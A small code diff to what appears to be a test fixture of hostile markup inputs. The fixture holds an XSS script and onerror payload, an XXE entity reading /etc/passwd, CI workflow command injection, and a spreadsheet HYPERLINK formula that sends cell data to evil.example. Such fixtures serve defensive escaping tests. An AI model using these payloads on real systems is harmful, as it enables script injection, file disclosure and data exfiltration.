@@ -22,7 +22,7 @@ CONTROL_CODES = {
 MARKUP = {
     "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'<!--",
     "XML": "]]></failure><testcase name='x'/>&xxe;<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
-    "Markdown": "| a | <b> ![x](http://evil.example/p.png) [y](javascript:alert(1)) ``` @team #1\n\n# Title",
+    "Markdown": "| a | <b> ![x](http://evil.example/p.png) [y](javascript:alert(1)) ``` @t #1\n\n# Title",
     "workflow command": "::error file=x::owned\n::set-output name=a::b\n##[group]g\n::add-mask::x",
     "Rich": "[bold red]owned[/bold red] [link=http://evil.example]x[/link]",
     "formula": '=HYPERLINK("http://evil.example"&A1;"x")',
